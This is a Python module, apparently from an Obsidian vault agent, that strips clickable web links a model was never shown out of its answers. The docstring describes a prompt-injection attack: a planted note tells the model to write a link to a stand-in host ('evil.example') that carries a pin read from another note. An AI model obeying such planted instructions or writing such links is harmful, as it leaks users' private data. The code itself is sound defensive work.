"""The web links an answer written by a model may keep: those the model was shown.

A note can tell a model to write ``[verify your account](https://evil.example/?pin=...)``, the
pin read from another note. A link loads nothing by itself, but a click sends what its URL
holds. So an answer a model wrote keeps a web link only when its URL is one the model was
shown (in the question, the context sent with it, a note or a tool's result: what the notes
point at is what the answer may point at); any other link becomes its text, which the reader
still sees. An extractive answer quotes the notes themselves and is not judged this way.

URLs are found as a renderer finds them (markdown-it with linkify: markdown links, autolinks,
bare URLs written in the text) and compared as WHATWG parses them (ada), so spelling a host in
capitals or escaping a character makes no other URL; a trailing slash is no difference.

Obsidian makes a link of a URL written out in the text too: one the model was not shown is put
in a code span (`unlink_unshown`), where it reads the same and is no link.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable

import ada_url
from linkify_it import LinkifyIt
from markdown_it import MarkdownIt

from vault_agent.agent.safe_markdown import code_spans
from vault_agent.agent.vault_urls import is_web_link
from vault_agent.vault.markdown import linear_link_labels

_PARSER = linear_link_labels(
    MarkdownIt("commonmark", {"linkify": True}).enable(["linkify", "table"])
)
#: URLs with their scheme: what a renderer links in text ("Obsidian.md" is a note's name).
_LINKIFY = LinkifyIt(options={"fuzzy_link": False, "fuzzy_email": False})


def web_links_in(texts: Iterable[str]) -> frozenset[str]:
    """Every web page URL `texts` link to or write out (normalised)."""
    found: set[str] = set()
    for text in texts:
        for token in _PARSER.parse(text):
            for child in token.children or []:
                href = str(child.attrs.get("href", "")) if child.type == "link_open" else ""
                if href and is_web_link(href):
                    found.add(_normal(href))
    return frozenset(found)


def shown_only(shown: frozenset[str]) -> Callable[[str], bool]:
    """A link rule keeping web pages among `shown` (`web_links_in`) and nothing else."""
    return lambda url: is_web_link(url) and _normal(url) in shown


def unlink_unshown(markdown: str, keep: Callable[[str], bool]) -> str:
    """`markdown` with each URL written out in its text (outside code) that `keep` refuses
    made a code span, so no renderer makes a link of it."""
    code = code_spans(markdown)
    parts: list[str] = []
    done = 0
    for match in _LINKIFY.match(markdown) or []:
        start, end = match.index, match.last_index
        if keep(match.url) or any(first <= start < last for first, last in code):
            continue
        fence = "``" if "`" in match.raw else "`"
        parts += [markdown[done:start], f"{fence}{match.raw}{fence}"]
        done = end
    return "".join(parts) + markdown[done:]


def _normal(url: str) -> str:
    try:
        normal = str(ada_url.normalize_url(url))
    except ValueError:  # not a URL the browser would follow either
        return url
    return normal.removesuffix("/")
